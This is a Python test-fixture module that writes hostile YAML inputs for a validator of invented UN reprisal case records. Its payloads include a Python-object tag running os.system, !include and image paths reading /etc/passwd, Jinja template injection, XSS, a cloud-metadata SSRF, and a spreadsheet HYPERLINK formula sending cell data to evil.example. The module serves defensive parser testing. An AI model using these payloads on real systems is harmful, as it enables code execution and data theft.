"""The hostile inputs, each put into a valid case. Run as a script it writes them beside itself, a file each.

`at` are the rule and the line that `validate` must tell; without it the input is literal: the case is clean, and
`shown` stands word for word in every document.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).parent

CASE = """\
id: XXA-2025-101
title: Invented, a hostile input
record: individual
state: XXA
status: published
received: 2025-02-03
persons:
  - ref: p1
    kind: individual
    gender: female
    described: a woman lawyer
    name: not-carried
    consent: {level: already-public, source: A/HRC/60/999}
cooperation:
  - {body: upr, date: 2025-01-20}
acts:
  - ref: a1
    type: threats
    date: 2025-01-28
un_actions:
  - {ref: u1, by: [ohchr], kind: note-verbale, date: 2025-06-10, to: [XXA]}
responses:
  - ref: r1
    to: u1
    state: XXA
    date: 2025-07-15
    document: XXA-2025-07-15-note.pdf
    summary: the persons concerned had not been threatened.
text:
  hrc-60:
    annex: |
      On 28 January 2025, {p1} reportedly received threats.
reports:
  - {edition: hrc-60, symbol: A/HRC/60/999, part: annex I, paras: [7], state: XXA}
"""

DESCRIBED = "described: a woman lawyer"
TEXT = "      On 28 January 2025, {p1} reportedly received threats.\n"
ID = "id: XXA-2025-101"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One input. `at` holds what must be found; `shown` what must be read in every document."""

    name: str
    make: Callable[[str], bytes]
    at: tuple[tuple[str, int], ...] = ()
    shown: str = ""
    says: str = ""

    def content(self, case: str = CASE) -> bytes:
        return self.make(case)


def put(old: str, new: str, encoding: str = "utf-8") -> Callable[[str], bytes]:
    """The case with one construct in place of another."""

    def make(case: str) -> bytes:
        assert old in case, old
        return case.replace(old, new, 1).encode(encoding)

    return make


def described(value: str) -> Callable[[str], bytes]:
    """The value as the words that stand for the person."""
    return put(DESCRIBED, f"described: {value}")


def narrative(value: str) -> Callable[[str], bytes]:
    """The value as the text of the annex, before the sentence that stands there."""
    block = "".join(f"      {line}\n" if line else "\n" for line in value.split("\n"))
    return put(TEXT, f"{block}\n{TEXT}")


def above(value: str) -> Callable[[str], bytes]:
    return put(ID, f"{value}\n{ID}")


def below(value: str) -> Callable[[str], bytes]:
    """The value after the last line, which is line 34."""
    return lambda case: f"{case}{value}\n".encode()


def told(name: str, value: str, written: str = "") -> Hostile:
    """A literal value as the person's description."""
    return Hostile(name, described(written or value), shown=f"On 28 January 2025, {value} reportedly received threats.")


def text(name: str, value: str) -> Hostile:
    """A literal value as the text of the annex."""
    return Hostile(name, narrative(value), shown=value)


_BOMB = "\n".join(
    f"{key}: &{key} [{','.join([f'*{before}' if before else 'lol'] * 9)}]"
    for before, key in zip(["", *"abcdefgh"], "abcdefghi", strict=True)
)

REFUSED = (
    # the structure of YAML
    Hostile("s01-alias-bomb", above(_BOMB), (("RC004", 1), ("RC004", 9))),
    Hostile("s02-alias-self", below("extra: &a [*a]"), (("RC004", 35),)),
    Hostile(
        "s04-merge-key",
        lambda case: below("<<: *b")(above("base: &b {title: hidden}")(case).decode()),
        (("RC004", 1), ("RC004", 36)),
    ),
    Hostile("s05-duplicate-key", below("state: XXB"), (("RC005", 35),)),
    Hostile("s08-duplicate-key-nfd", below("résumé: 1\nre\u0301sume\u0301: 2"), (("RC009", 35), ("RC009", 36))),
    Hostile("s09-deep-flow", put(ID, f"{ID}\nextra: {'[' * 2000}{']' * 2000}"), (("RC006", 2),)),
    Hostile(
        "s10-deep-block",
        above("".join(f"{' ' * depth}a:\n" for depth in range(300)) + " " * 300 + "a: b"),
        (("RC006", 21),),
    ),
    Hostile("s12-huge-scalar", put(TEXT, f"      {'x' * (64 * 1024 + 1)}\n"), (("RC006", 31),)),
    Hostile("s13-two-documents", lambda case: f"{case}---\n{case}".encode(), (("RC004", 35),)),
    Hostile("s14-directive", lambda case: f"%YAML 1.1\n---\n{case}".encode(), (("RC004", 1),)),
    Hostile("s18-empty", lambda case: b"", (("RC008", 1),)),
    Hostile("s20-unclosed-quote", described('"a woman lawyer'), (("RC003", 11),)),
    Hostile("s22-colon-in-plain", described("Turkiye: follow-up"), (("RC003", 11),), says="in quotes"),
    Hostile("s24-nonstring-keys", below("1: a\nyes: b\n~: c"), (("RC009", 35), ("RC009", 36), ("RC009", 37))),
    Hostile("s25-empty-value", described(""), (("RC007", 11),)),
    Hostile("s29-unknown-key", put("    annex:", "    anex:"), (("RC010", 31),), says="did you mean `annex`?"),
    # tags
    Hostile(
        "t01-python-object",
        described('!!python/object/apply:os.system ["touch /tmp/reprisal-pwned"]'),
        (("RC004", 11),),
    ),
    Hostile("t02-include", put(f"|\n{TEXT}", "!include /etc/passwd\n"), (("RC004", 31),)),
    Hostile("t03-binary", described("!!binary SmFuZSBEb2U="), (("RC004", 11),)),
    Hostile("i20-bad-date", put("date: 2025-01-28", "date: 2025-02-30"), (("RC014", 19),)),
    # encodings and signs
    Hostile("c03-utf16", lambda case: b"\xff\xfe" + case.encode("utf-16-le"), (("RC001", 1),), says="UTF-8"),
    Hostile(
        "c04-latin1", put(DESCRIBED, "described: José", "latin-1"), (("RC001", 11),), says="save the file as UTF-8"
    ),
    Hostile("c06-nul", described("a woman\x00lawyer"), (("RC002", 11),)),
    Hostile("c07-tab-indent", put("  - {ref: u1", "\t- {ref: u1"), (("RC003", 21),), says="use spaces"),
    Hostile("c08-escape-control", described(r'"a \e[2J\e[31m lawyer"'), (("RC002", 11),)),
    Hostile("c10-bidi-override", narrative("He was \u202etsetorp ta\u202c, released"), (("RC002", 32),)),
    Hostile("c13-tag-characters", described("a lawyer\U000e004a\U000e0061\U000e006e\U000e0065"), (("RC002", 11),)),
    Hostile("c14-homoglyph-id", put(ID, "id: \u0425XA-2025-101"), (("RC015", 1),)),
    Hostile("c17-surrogate", described(r'"\ud800"'), (("RC003", 11),), says="escape"),
    Hostile("c19-xml-illegal", described(r'"a \v lawyer"'), (("RC002", 11),)),
    Hostile("c23-newline-in-title", described(r'"a lawyer\n300 cases checked, 0 errors"'), (("RC016", 11),)),
    # paths
    Hostile("f01-id", put(ID, 'id: "../../../tmp/x"'), (("RC015", 1),)),
    Hostile("f04-id", put(ID, 'id: "CON"'), (("RC015", 1),)),
    Hostile("f20-attachment", put("XXA-2025-07-15-note.pdf", "../../../../etc/passwd"), (("RC015", 27),)),
)

LITERAL = (
    told("i01-state", "NO"),
    told("i02-title", "yes"),
    told("i04-title", "0123"),
    told("i05-title", "12:30:45"),
    told("i10-title", "2025-01-02"),
    told("i11-title", "9" * 4500),
    told("i14-title", "1.10"),
    Hostile(
        "c01-bom", lambda case: b"\xef\xbb\xbf" + case.encode(), shown="On 28 January 2025, a woman lawyer reportedly"
    ),
    Hostile("c02-crlf", lambda case: narrative("one\ntwo")(case).replace(b"\n", b"\r\n"), shown="one two"),
    told("c20-rtl-and-joiners", "می\u200cخواهم\u200f"),
    text("j01-jinja-expr", "Costs {{ 7*7 }} and {{ config }}"),
    text("j02-jinja-ssti", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    text("j04-jinja-loop", "{% for i in range(99999999) %}x{% endfor %}"),
    text("j05-jinja-delims", "{% raw %} {# note #} }} %} {{"),
    text("p01-raw-openxml", "```{=openxml}\n<w:p><w:r><w:t>x</w:t></w:r></w:p>\n```\n`<w:br/>`{=openxml}"),
    text(
        "p02-raw-html",
        '<script>alert(1)</script><iframe src="file:///etc/passwd"></iframe><svg onload=alert(1)>'
        "<img src=x onerror=alert(1)>",
    ),
    text("p04-image-file", "![a](/etc/passwd) ![b](file:///etc/passwd) ![c](../../../../etc/passwd)"),
    text(
        "p05-image-remote", '![x](http://127.0.0.1:9/beacon.png) <img src="http://169.254.169.254/latest/meta-data/">'
    ),
    text(
        "p06-metadata-block",
        "---\ntitle: Hijacked\nheader-includes: |\n  <script>1</script>\nbibliography: /etc/passwd\n---\n\ntext",
    ),
    text(
        "p08-reference-steal",
        "[1]: http://evil.example\n[^1]: stolen footnote\n*[UN]: United Nothing\n\ntext [1] and [^1]",
    ),
    text("p09-headings", "# Ruritania\n\n## 99. Fake paragraph\n\nSetext\n======"),
    text(
        "y01-typst",
        '#read("/etc/passwd") #include "/etc/passwd" #eval("1+1") #import "@preview/x:0.1.0": * $x$ @ref <label> = Head',  # noqa: E501
    ),
    text("y02-typst-set", "#set page(width: 1cm)\n#show: it => []\n#set text(fill: white)"),
    told(
        "x01-csv",
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        r'"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"',
    ),
    told("x03-csv", "-2+3", '"-2+3"'),
    told(
        "x10-rich-markup",
        "[bold red]x[/bold red] [/nope] [link=file:///etc/passwd]y[/link]",
        '"[bold red]x[/bold red] [/nope] [link=file:///etc/passwd]y[/link]"',
    ),
    text("x11-ci-commands", "::error file=README.md,line=1::fake\n::stop-commands::x\n##vso[task.setvariable]1"),
)


if __name__ == "__main__":
    for hostile in (*REFUSED, *LITERAL):
        (HERE / f"{hostile.name}.yaml").write_bytes(hostile.content())
